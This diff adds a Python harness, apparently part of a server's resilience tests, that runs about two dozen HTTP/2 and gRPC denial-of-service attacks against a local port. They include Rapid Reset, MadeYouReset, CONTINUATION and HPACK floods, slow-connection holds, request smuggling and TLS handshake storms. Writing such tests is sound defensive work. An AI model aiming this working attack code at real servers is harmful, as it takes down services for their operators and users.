@@ -1,0 +1,347 @@
+# Part of Vitals. Copyright (c) 2026 the Vitals authors.
+# SPDX-License-Identifier: Apache-2.0
+"""attacks.py NAME PORT SECONDS: one known attack on a server of this machine, in a process of its own.
+
+Each goes on, with new connections for those that the server ends, until its time is over. At the end it prints how
+many connections it made and how many of them the server ended: `{"made": n, "ended": n}`.
+"""
+
+import contextlib
+import json
+import random
+import resource
+import select
+import socket
+import ssl
+import struct
+import sys
+import time
+
+import http2
+
+CHECK, WATCH = "/grpc.health.v1.Health/Check", "/grpc.health.v1.Health/Watch"
+PRIORITY, CONTINUATION = 2, 9
+CANCEL = struct.pack(">I", 8)
+
+
+class Attack:
+    """The connections of one attack, and its clock."""
+
+    def __init__(self, port, seconds):
+        self.port = port
+        self.deadline = time.monotonic() + seconds
+        self.made = 0
+        self.ended = 0
+
+    def goes_on(self):
+        return time.monotonic() < self.deadline
+
+    @contextlib.contextmanager
+    def peer(self, opened=True, **values):
+        """A connection; its end by the server ends the block."""
+        self.made += 1
+        with http2.Peer(self.port) as peer:
+            try:
+                if opened:
+                    peer.open(**values)
+                yield peer
+            except (OSError, EOFError):
+                self.ended += 1
+
+    def repeat(self, data, opened=True, rest=0):
+        """Sends the same bytes over and over, on a new connection whenever the server ends one."""
+        while self.goes_on():
+            with self.peer(opened) as peer:
+                while self.goes_on():
+                    peer.send(data)
+                    drain(peer)
+                    time.sleep(rest)
+
+    def hold(self, count, begin):
+        """`count` connections that `begin` starts and that then do nothing, until the server has ended them all."""
+        peers = []
+        for _ in range(count):
+            with contextlib.suppress(OSError):
+                peer = http2.Peer(self.port)
+                peers.append(peer)
+                self.made += 1
+                begin(peer)
+        while peers and self.goes_on():
+            open_ones = []
+            for peer in peers:
+                try:
+                    drain(peer)
+                    open_ones.append(peer)
+                except (OSError, EOFError):
+                    self.ended += 1
+                    peer.socket.close()
+            peers = open_ones
+            time.sleep(0.02)
+        for peer in peers:
+            peer.socket.close()
+
+
+def drain(peer):
+    """Takes what the server has sent; EOFError at its end."""
+    while select.select([peer.socket], [], [], 0)[0]:
+        if not peer.socket.recv(1 << 16):
+            raise EOFError
+
+
+def call_headers(path, *more):
+    return http2.header_block(
+        (b":method", b"POST"),
+        (b":scheme", b"http"),
+        (b":path", path.encode()),
+        (b":authority", b"localhost"),
+        (b"te", b"trailers"),
+        (b"content-type", b"application/grpc"),
+        *more,
+    )
+
+
+def call(stream, path, message=b"", end=True):
+    """A whole call."""
+    body = struct.pack(">BI", 0, len(message)) + message
+    head = http2.frame(http2.HEADERS, http2.END_HEADERS, stream, call_headers(path))
+    return head + http2.frame(http2.DATA, http2.END_STREAM if end else 0, stream, body)
+
+
+def rapid_reset(attack):
+    """CVE-2023-44487: calls that are cancelled at once."""
+    while attack.goes_on():
+        with attack.peer() as peer:
+            for number in range(1, 1 << 20, 100):
+                ids = range(2 * number + 1, 2 * number + 201, 2)
+                peer.send(b"".join(call(i, WATCH) + http2.frame(http2.RST_STREAM, 0, i, CANCEL) for i in ids))
+                drain(peer)
+
+
+def made_you_reset(attack):
+    """CVE-2025-8671: calls whose next frame makes the server reset them."""
+    overflow = struct.pack(">I", 0x7FFFFFFF)
+    while attack.goes_on():
+        with attack.peer() as peer:
+            for number in range(1, 1 << 20, 50):
+                ids = range(2 * number + 1, 2 * number + 101, 2)
+                peer.send(b"".join(call(i, WATCH) + http2.frame(http2.WINDOW_UPDATE, 0, i, overflow) for i in ids))
+                drain(peer)
+
+
+def continuation_flood(attack):
+    """A header block that never ends."""
+    head = http2.frame(http2.HEADERS, 0, 1, call_headers(WATCH))
+    piece = http2.frame(CONTINUATION, 0, 1, http2.header_block((b"x", b"y")))
+    while attack.goes_on():
+        with attack.peer() as peer:
+            peer.send(head)
+            while attack.goes_on():
+                peer.send(piece * 500)
+                drain(peer)
+
+
+def ping_flood(attack):
+    attack.repeat(http2.frame(http2.PING, 0, 0, bytes(8)) * 500)
+
+
+def settings_flood(attack):
+    attack.repeat(http2.settings(initial_window=65535) * 500)
+
+
+def empty_frame_flood(attack):
+    start = http2.frame(http2.HEADERS, http2.END_HEADERS, 1, call_headers(CHECK))
+    while attack.goes_on():
+        with attack.peer() as peer:
+            peer.send(start)
+            while attack.goes_on():
+                peer.send(http2.frame(http2.DATA, 0, 1) * 500)
+                drain(peer)
+
+
+def priority_flood(attack):
+    attack.repeat(http2.frame(PRIORITY, 0, 1, struct.pack(">IB", 3, 200)) * 500)
+
+
+def window_update_flood(attack):
+    attack.repeat(http2.frame(http2.WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 500)
+
+
+def unknown_frame_flood(attack):
+    attack.repeat(http2.frame(0xFA, 0, 0, b"x" * 8) * 500)
+
+
+def zero_window(attack):
+    """Calls whose answers have no window, on a hundred connections."""
+
+    def begin(peer):
+        peer.open(initial_window=0)
+        peer.send(b"".join(call(i, CHECK) for i in range(1, 120, 2)))
+
+    attack.hold(100, begin)
+
+
+def one_byte_window(attack):
+    """An answer fetched a byte at a time."""
+    while attack.goes_on():
+        with attack.peer(initial_window=0) as peer:
+            for number in range(1, 1 << 20):
+                stream = 2 * number + 1
+                peer.send(call(stream, CHECK))
+                update = http2.frame(http2.WINDOW_UPDATE, 0, stream, struct.pack(">I", 1))
+                peer.send(update * 11)
+                drain(peer)
+
+
+def unread_answers(attack):
+    """Calls without end, and not one answer is read."""
+    while attack.goes_on():
+        with attack.peer(initial_window=1 << 30) as peer:
+            peer.update_window(0, 1 << 30)
+            peer.socket.settimeout(1)
+            for number in range(1, 1 << 20, 50):
+                peer.send(b"".join(call(2 * i + 1, CHECK) for i in range(number, number + 50)))
+
+
+def slow_preface(attack):
+    attack.hold(300, lambda peer: peer.send(http2.PREFACE[:9]))
+
+
+def slow_headers(attack):
+    def begin(peer):
+        peer.open()
+        peer.send(http2.frame(http2.HEADERS, 0, 1, call_headers(CHECK)))
+
+    attack.hold(300, begin)
+
+
+def slow_body(attack):
+    """Calls that stop within their message; each is ended, and its connection for want of anything else."""
+
+    def begin(peer):
+        peer.open()
+        for stream in range(1, 61, 2):
+            peer.send(http2.frame(http2.HEADERS, http2.END_HEADERS, stream, call_headers(CHECK)))
+            peer.send(http2.frame(http2.DATA, 0, stream, struct.pack(">BI", 0, 1 << 20) + bytes(900)))
+
+    attack.hold(100, begin)
+
+
+def hpack_bomb(attack):
+    """A field of 3,900 octets goes into the table once, then one octet stands for it a thousand times."""
+    value = b"v" * 3900
+    length = b"\x7f" + bytes([(3900 - 127) % 128 + 128, (3900 - 127) // 128])
+    first = call_headers(CHECK) + b"\x40\x01x" + length + value
+    bomb = call_headers(CHECK) + b"\xbe" * 8000
+    while attack.goes_on():
+        with attack.peer() as peer:
+            peer.send(http2.frame(http2.HEADERS, http2.END_HEADERS, 1, first))
+            for stream in range(3, 1 << 20, 2):
+                peer.send(http2.frame(http2.HEADERS, http2.END_HEADERS, stream, bomb))
+                drain(peer)
+
+
+def huge_headers(attack):
+    fields = call_headers(CHECK, *((b"x-%d" % n, b"y" * 120) for n in range(100)))
+    while attack.goes_on():
+        with attack.peer() as peer:
+            for stream in range(1, 1 << 20, 2):
+                peer.send(http2.frame(http2.HEADERS, http2.END_HEADERS | http2.END_STREAM, stream, fields * 1))
+                drain(peer)
+
+
+def idle_connections(attack):
+    """Ten thousand that say hello and nothing else."""
+    resource.setrlimit(resource.RLIMIT_NOFILE, (20_000, resource.getrlimit(resource.RLIMIT_NOFILE)[1]))
+    hello = http2.PREFACE + http2.settings()
+    attack.hold(10_000, lambda peer: peer.send(hello))
+
+
+def churn(attack):
+    """One connection after the other, with a call, half a call, or nothing."""
+    hello = http2.PREFACE + http2.settings()
+    while attack.goes_on():
+        for data in (b"", hello, hello + call(1, CHECK), hello + call(1, CHECK)[:40]):
+            with attack.peer(opened=False) as peer:
+                peer.send(data)
+
+
+def half_closed(attack):
+    """Calls whose clients close their sending side and wait."""
+
+    def begin(peer):
+        peer.open()
+        peer.send(call(1, WATCH))
+        peer.socket.shutdown(socket.SHUT_WR)
+
+    while attack.goes_on():
+        attack.hold(50, begin)
+
+
+def watch_storm(attack):
+    """Watches of names that nobody registered, as long as names may be, opened and left and opened again."""
+    while attack.goes_on():
+        with attack.peer() as peer:
+            for number in range(1, 1 << 20):
+                name = b"%08d" % number + b"n" * 3900
+                message = b"\x0a" + bytes([len(name) % 128 + 128, len(name) // 128]) + name
+                peer.send(call(2 * number + 1, WATCH, message))
+                if number > 90:
+                    peer.send(http2.frame(http2.RST_STREAM, 0, 2 * (number - 90) + 1, CANCEL))
+                drain(peer)
+
+
+def garbage(attack):
+    noise = random.Random(4)
+    while attack.goes_on():
+        with attack.peer(opened=noise.random() < 0.5) as peer:
+            while attack.goes_on():
+                peer.send(noise.randbytes(noise.randrange(1, 4096)))
+                drain(peer)
+
+
+def smuggling(attack):
+    """HTTP/1.1 with two lengths, and HTTP/2 hidden behind it."""
+    head = b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n"
+    hidden = http2.PREFACE + http2.settings() + call(1, CHECK)
+    while attack.goes_on():
+        for data in (head + b"0\r\n\r\n" + hidden, b"GET / HTTP/1.1\r\nHost: x\r\n\r\n" + hidden):
+            with attack.peer(opened=False) as peer:
+                peer.send(data)
+                answer = b""
+                while piece := peer.socket.recv(1 << 16):
+                    answer += piece
+                assert answer.startswith(b"HTTP/1.1 "), answer
+                assert b"\x08\x01" not in answer, "the hidden call was answered"
+                raise EOFError
+
+
+def handshake_storm(attack):
+    """TLS clients that shake hands and leave; only for a port with TLS."""
+    context = ssl.create_default_context()
+    context.check_hostname = False
+    context.verify_mode = ssl.CERT_NONE
+    context.set_alpn_protocols(["h2"])
+    while attack.goes_on():
+        attack.made += 1
+        with contextlib.suppress(OSError):
+            with socket.create_connection(("127.0.0.1", attack.port), timeout=5) as connection:
+                with context.wrap_socket(connection):
+                    attack.ended += 1
+
+
+ALL = [
+    *(rapid_reset, made_you_reset, continuation_flood, ping_flood, settings_flood, empty_frame_flood),
+    *(priority_flood, window_update_flood, unknown_frame_flood, zero_window, one_byte_window, unread_answers),
+    *(slow_preface, slow_headers, slow_body, hpack_bomb, huge_headers, idle_connections, churn, half_closed),
+    *(watch_storm, garbage, smuggling),
+]
+
+
+def main(name, port, seconds):
+    attack = Attack(int(port), float(seconds))
+    globals()[name](attack)
+    print(json.dumps({"made": attack.made, "ended": attack.ended}))
+
+
+if __name__ == "__main__":
+    main(*sys.argv[1:])
